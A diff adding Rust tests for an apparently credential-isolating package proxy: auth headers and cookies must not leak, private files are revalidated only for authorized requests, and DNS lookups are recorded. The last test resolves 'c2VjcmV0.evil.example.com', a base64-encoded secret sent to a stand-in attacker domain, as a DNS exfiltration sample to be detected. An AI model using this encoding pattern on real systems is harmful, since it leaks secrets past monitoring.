@@ -168,11 +168,48 @@ fn credentials_go_to_the_upstream_and_nowhere_else() {
         let login = "Authorization: Basic dTpw\r\n";
         let path = "/packages/a-1.0-py3-none-any.whl";
         let reply = world.ask("up.example.org", upstream.port, "GET", path, login).await;
-        assert_eq!(reply.text(), "private");
+        assert_eq!((reply.text().as_str(), reply.header("set-cookie")), ("private", Some("a=b")));
         let reply = world.get("up.example.org", upstream.port, path).await;
         assert_eq!(reply.status(), 401, "nobody else gets it");
         let served = world.finish();
         assert!(!format!("{served:?}").contains("dTpw"), "{served:?}");
+        assert!(!format!("{served:?}").contains("a=b"), "{served:?}");
         assert_eq!(served.intakes[0].digest, Some(Digest::of(b"private")));
+    });
+}
+
+#[test]
+fn what_is_private_is_given_again_when_the_upstream_knows_who_asks() {
+    run(World::new(), async |world| {
+        let upstream = Upstream::plain(|head| {
+            let lower = head.to_lowercase();
+            match (lower.contains("authorization: "), lower.contains("if-none-match: \"p\"")) {
+                (true, true) => bytes("HTTP/1.1 304 Same\r\n\r\n"),
+                (true, false) => say("ETag: \"p\"\r\n", "private"),
+                _ => bytes("HTTP/1.1 401 No\r\nContent-Length: 0\r\n\r\n"),
+            }
+        })
+        .await;
+        for expected in [200, 200, 401] {
+            let login = if expected == 200 { "Authorization: Bearer abc\r\n" } else { "" };
+            let reply =
+                world.ask("up.example.org", upstream.port, "GET", "/a-1.0-py3-none-any.whl", login).await;
+            assert_eq!(reply.status(), expected);
+            assert_eq!(reply.text() == "private", expected == 200);
+        }
+        assert!(upstream.asked()[1].contains("if-none-match"));
+    });
+}
+
+#[test]
+fn names_that_nobody_asked_anything_are_recorded() {
+    run(World::new(), async |world| {
+        let upstream = Upstream::plain(|_| say("", "x")).await;
+        world.get("up.example.org", upstream.port, "/x").await;
+        world.step.step().names.address("c2VjcmV0.evil.example.com").unwrap();
+        let served = world.finish();
+        let last = served.intakes.last().unwrap();
+        assert_eq!((last.url.as_str(), last.method.as_str()), ("dns://c2VjcmV0.evil.example.com", "DNS"));
+        assert_eq!(served.intakes.len(), 2);
     });
 }
